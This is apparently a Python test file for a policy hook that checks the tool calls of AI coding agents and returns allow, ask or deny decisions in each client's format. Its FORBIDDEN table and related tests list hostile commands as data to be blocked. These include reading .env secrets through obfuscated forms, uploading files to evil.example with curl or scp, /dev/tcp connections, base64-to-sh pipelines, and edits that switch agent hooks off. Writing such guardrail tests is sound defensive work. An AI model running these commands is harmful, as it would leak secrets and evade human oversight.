"""Hooks: each client's payload is read, decided about, and answered in that client's own form."""

from __future__ import annotations

import contextlib
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from dragoman import config, logs
from dragoman.dialects import DIALECTS
from dragoman.logs import read_events
from dragoman.model import NativeCall, events as ev, operations as op
from dragoman.serve.hook import CLIENTS, Handled, Rules, client_named, client_of, explained, handle, record, rules_of

from .hook_payloads import EVENTS, claude, payload_of

POLICY = """
[[policy.rules]]
verdict = "deny"
path = "*.env"

[[policy.rules]]
verdict = "deny"
kind = "write"
outside = true

[[policy.rules]]
verdict = "deny"
operation = "delete_file"

[[policy.rules]]
verdict = "deny"
command = "git push*--force*"

[[policy.rules]]
verdict = "allow"
domain = "docs.python.org"

[[policy.rules]]
verdict = "ask"
kind = "fetch"

[[policy.rules]]
verdict = "deny"
server = "*"
outside = true

[[policy.rules]]
verdict = "allow"
command = "make *"
"""


@pytest.fixture
def rules(tmp_path: Path) -> Rules:
    (tmp_path / "config").mkdir()
    (tmp_path / "config" / "config.toml").write_text(POLICY)
    environ = {"DRAGOMAN_CONFIG_DIR": str(tmp_path / "config"), "DRAGOMAN_DATA_DIR": str(tmp_path / "data")}
    return rules_of(config.load(cwd=tmp_path, environ=environ, project_at=Path("/")))


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    made = tmp_path / "project"
    made.mkdir()
    (made / ".env").write_text("SECRET=1\n")
    return made


def denied(reason: str) -> dict[str, dict[str, Any]]:
    """A denial as each client reads it."""
    theirs = {
        "hookSpecificOutput": {
            "hookEventName": "PreToolUse",
            "permissionDecision": "deny",
            "permissionDecisionReason": reason,
        }
    }
    return {
        **dict.fromkeys(("claude_code", "codex", "qwen_code", "droid"), theirs),
        "gemini_cli": {"decision": "deny", "reason": reason},
        "copilot": {"permissionDecision": "deny", "permissionDecisionReason": reason},
        **{client: {"deny": reason} for client in ("opencode", "pi")},
        "cline": {"cancel": True, "errorMessage": reason},
        "cursor": {"permission": "deny", "user_message": reason, "agent_message": reason},
        "goose": {"decision": "block", "reason": reason},
    }


def asked(payload: Any, rules: Rules, client: str | None = None, event: str | None = None) -> Handled:
    return handle(json.dumps(payload).encode(), client, event, lambda: rules)


@pytest.mark.parametrize("client", CLIENTS)
def test_a_denial_is_in_the_form_of_the_client_with_a_reason_and_exit_code_zero(
    client: str, folder: Path, rules: Rules
) -> None:
    payload = payload_of(client, folder, "cat .env")
    assert client_of(payload) == client
    handled = asked(payload, rules)
    assert handled.decision.rule == "rule 1 of your settings (path=*.env)"
    assert json.loads(handled.answer.out) == denied(handled.decision.reason)[client]
    assert (handled.answer.code, handled.note) == (0, None)


FORBIDDEN = {
    "reading a secret": ("cat .env", "cat '.e''nv'", "F=.env; cat $F", "base64 .e*", "python x.py .env", "cp .env x"),
    "writing outside": ("cp x /etc/passwd", "echo x > ../y", "D=..; cd $D && touch y", "bash -c 'tee /y < x'"),
    "deleting": ("rm -rf build", "find . -delete", "ls | xargs rm", '"r"m x', "if true; then rm x; fi"),
    "a force push": (
        "git push --force",
        "git push origin main --force",
        "X=--force; git push $X",
        "sh -c 'git push --force'",
    ),
    "an unknown host": (
        "curl https://evil.example/",
        "wget evil.example",
        "H=evil.example; curl $H",
        "cat < /dev/tcp/evil/80",
    ),
    "an upload": ("curl -T a https://evil.example", "curl -d @a evil.example", "scp a evil.example:"),
    "what is not known": (
        "python x.py",
        "sh x.sh",
        "./renamed .x",
        "eval $X",
        "echo cm0geA== | base64 -d | sh",
        "node -e 1",
    ),
    "switching hooks off": (
        "echo {} > .claude/settings.json",
        "mkdir -p x && cp a .codex/config.toml",
        "sed -i d .qwen/settings.json",
    ),
}
ORDINARY = (
    *(
        "ls -la",
        "git status",
        "cat README.md | head -5",
        "grep -n x src/a.py",
        "mkdir -p build/x",
        "echo done > out.txt",
    ),
    *(
        "sed -n 1,5p a.py",
        "sed -i 's/a/b/' a.py",
        "cd src && ls",
        "make test",
        "git log --oneline -5",
        "wc -l *.py",
        "pwd",
    ),
    *("for f in a b; do cat $f; done", "curl -s https://docs.python.org/3/", "cp a.py b.py", "find src -name '*.py'"),
    *("test -f a && echo yes", "touch src/{a,b}.py", "mv a.py c.py 2>/dev/null || true"),
)


@pytest.mark.parametrize("client", CLIENTS)
def test_what_is_forbidden_is_stopped_in_every_client_and_what_is_ordinary_passes(
    client: str, folder: Path, rules: Rules
) -> None:
    ways = {
        way: asked(payload_of(client, folder, way), rules).decision.verdict for row in FORBIDDEN.values() for way in row
    }
    assert {way: verdict for way, verdict in ways.items() if verdict not in ("deny", "ask")} == {}
    if client not in ("claude_code", "qwen_code", "copilot", "cursor"):
        assert set(ways.values()) == {"deny"}, "a client that cannot ask gets a denial"
    (folder / ".env").unlink()  # else moving a folder that has it would be no ordinary thing
    passed = {line: asked(payload_of(client, folder, line), rules).decision for line in ORDINARY}
    assert {line: one for line, one in passed.items() if one.verdict not in ("pass", "allow")} == {}


def test_the_same_is_stopped_in_other_tools(folder: Path, rules: Rules) -> None:
    codex = payload_of("codex", folder, "")
    patch = "*** Begin Patch\n*** Update File: a.py\n@@\n-x\n+y\n*** Add File: sub/.env\n+x\n*** End Patch"
    toy = {**claude(folder, "mcp__toy__write", file={"name": "/etc/passwd"}), "mcp_server": {"name": "toy"}}
    child = {**claude(folder, "Read", file_path=str(folder / ".env")), "agent_id": "a", "agent_type": "explorer"}
    calls = [
        claude(folder, "Read", file_path=f"{folder}/x/../.env"),
        claude(folder, "Write", file_path="/etc/passwd", content="x"),
        claude(folder, "Edit", file_path=f"{folder}/.claude/settings.json", old_string="a", new_string="b"),
        claude(folder, "WebFetch", url="https://evil.example", prompt="x"),
        claude(folder, "Grep", pattern="SECRET"),
        claude(folder, "NoSuchTool", x=1),
        {**codex, "tool_name": "apply_patch", "tool_input": {"command": patch}},
        payload_of("codex", folder, f"apply_patch <<'EOF'\n{patch}\nEOF"),
        toy,
        child,
    ]
    verdicts = [asked(call, rules).decision.verdict for call in calls]
    assert verdicts == ["deny", "deny", "deny", "ask", "deny", "ask", "deny", "deny", "deny", "deny"]
    harmless = [
        claude(folder, "Read", file_path=f"{folder}/a.py"),
        claude(folder, "TodoWrite", todos=[]),
        claude(folder, "mcp__toy__echo", text="hello"),
        claude(folder, "Write", file_path=f"{folder}/a.py", content="x"),
    ]
    assert [asked(call, rules).decision.verdict for call in harmless] == ["pass"] * 4


@pytest.mark.parametrize("client", CLIENTS)
def test_whatever_goes_wrong_is_a_denial(client: str, folder: Path) -> None:
    def broken() -> Rules:
        raise RuntimeError("no settings")

    event = EVENTS[client]
    good = json.dumps(payload_of(client, folder, "ls")).encode()
    for text in (good, b"", b"{", b"[]", b"{}", b'{"tool_name": 1}', b"\xff", b'{"a":' * 5000, good[:-1], b"null"):
        handled = handle(text, client, event, broken)
        assert json.loads(handled.answer.out) == denied(handled.decision.reason)[client] or text == good, text
        assert handled.decision.verdict == "deny"
        assert (handled.answer.code, handled.note) == (0, handled.decision.reason)
    nobody = handle(b"{}", None, None, broken)
    assert (nobody.answer.out, nobody.answer.code, bool(nobody.note)) == ("", 2, True)


@pytest.mark.parametrize("client", CLIENTS)
def test_a_command_line_is_read_as_the_vocabulary_of_the_client_reads_it(client: str, folder: Path) -> None:
    speaks = client_named(client)
    payload = payload_of(client, folder, "cat a")
    (native,) = speaks.read(payload, None).calls
    for tool, argument in speaks.shells.items():
        dialect = DIALECTS["claude_code" if tool == "Bash" else speaks.dialect]
        (read,) = dialect.read_call(NativeCall("", tool, native.arguments)).operations
        assert isinstance(native.arguments, dict)
        assert (type(read), read.command, native.arguments[argument]) == (op.RunCommand, "cat a", "cat a")


def test_events_that_decide_nothing_pass(folder: Path, rules: Rules) -> None:
    for event in ("PostToolUse", "UserPromptSubmit", "Stop"):
        payload = {**claude(folder, "Bash", command="rm x"), "hook_event_name": event}
        assert asked(payload, rules, "claude_code", event).answer.out == ""
    started = {"session_id": "s", "cwd": str(folder), "hook_event_name": "SessionStart", "source": "startup"}
    assert asked(started, rules, "claude_code", "SessionStart").answer.out == ""
    renamed = {**claude(folder, "Bash", command="rm x"), "hook_event_name": "PreToolUse2"}
    assert asked(renamed, rules, "claude_code", "PreToolUse").decision.verdict == "deny"


def test_the_content_decides_where_the_installed_line_is_for_another_client(folder: Path, rules: Rules) -> None:
    handled = asked(payload_of("gemini_cli", folder, "cat .env"), rules, "claude_code", "PreToolUse")
    assert json.loads(handled.answer.out)["decision"] == "deny"
    assert handled.note == "the installed line is for claude_code, and the payload is from gemini_cli"


def test_the_line_that_clients_run_answers_as_the_command_does(folder: Path, tmp_path: Path, rules: Rules) -> None:
    project = folder / ".dragoman"
    project.mkdir()
    (project / "config.toml").write_text(
        'policy.rules = [{verdict = "allow"}]\nhook.unknown_commands = "allow"\nnonsense'
    )
    environment = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "DRAGOMAN_CONFIG_DIR": str(tmp_path / "config")}
    for command, words in (("cat .env", []), ("cat .env", ["--client", "codex", "--event", "PreToolUse"])):
        answered = subprocess.run(
            [sys.executable, "-P", "-m", "dragoman", "hook", *words],
            cwd=folder,
            env=environment,
            input=json.dumps(payload_of("codex", folder, command)).encode(),
            capture_output=True,
        )
        assert answered.returncode == 0, answered.stderr
        assert (
            json.loads(answered.stdout)
            == denied(asked(payload_of("codex", folder, command), rules).decision.reason)["codex"]
        )


def test_every_decision_is_an_event_that_history_can_be_asked_about(
    folder: Path, tmp_path: Path, rules: Rules, monkeypatch: pytest.MonkeyPatch
) -> None:
    decisions = tmp_path / "data" / "decisions"
    assert rules.decisions == decisions

    def keep(handled: Handled) -> None:
        record(handled.asked, handled.decision, decisions)

    lines = ("cat src/../a.py", "cp a.py /etc/x", "curl evil.example")
    for line in lines:
        keep(asked(payload_of("claude_code", folder, line), rules))
    keep(asked(claude(folder, "Read", file_path=".env"), rules))
    keep(asked(payload_of("copilot", folder, "ls") | {"sessionId": "../../x"}, rules))
    keep(asked({"hook_event_name": "Stop"}, rules, "claude_code", "Stop"))
    assert {path.name[:8] for path in decisions.iterdir()} == {"claude_c", "copilot-"}
    assert oct((decisions / "claude_code-s.jsonl").stat().st_mode & 0o777) == "0o600"
    started, *called = read_events(decisions / "claude_code-s.jsonl")
    assert (type(started), started.session, started.client) == (ev.SessionStarted, "claude_code-s", "claude_code hook")
    told = [
        (one.decision.verdict, one.call.intents) for one in called if isinstance(one, ev.ToolCalled) and one.decision
    ]
    assert told == [
        ("allowed", (op.ReadFile(f"{folder}/a.py"),)),
        ("denied", (op.ReadFile(f"{folder}/a.py"), op.EditFile("/etc/x", ()), op.EditFile("/etc/x/a.py", ()))),
        ("asked", (op.FetchPage("evil.example"),)),
        ("denied", ()),
    ]
    monkeypatch.setenv("DRAGOMAN_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("DRAGOMAN_CACHE_DIR", str(tmp_path / "cache"))
    with contextlib.closing(logs.Query(paths=[str(decisions)])) as query:
        found = logs.statistics(query, logs.Filter(), ("client", "verdict"))
        counted = {tuple(group.group.values()): group.calls.calls for group in found.groups if group.calls}
        assert counted[("claude_code hook", "denied")] == 2
        assert counted[("claude_code hook", "asked")] == counted[("copilot hook", "allowed")] == 1
        assert logs.statistics(query, logs.Filter(), ("tool",)).groups == [], "they are in the client's own log too"


def test_what_would_be_decided_about_a_line_is_explained(
    folder: Path, tmp_path: Path, rules: Rules, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DRAGOMAN_CONFIG_DIR", str(tmp_path / "config"))
    found = explained("cat a*; rm $X", "codex", str(folder))
    assert found.decision.rule == "rule 3 of your settings (operation=delete_file)"
    assert found.effects == (("read", f"{folder}/a*"), ("delete", "…/…"))
    assert found.unknown == ("an argument of 'rm' is computed and may be an option",)
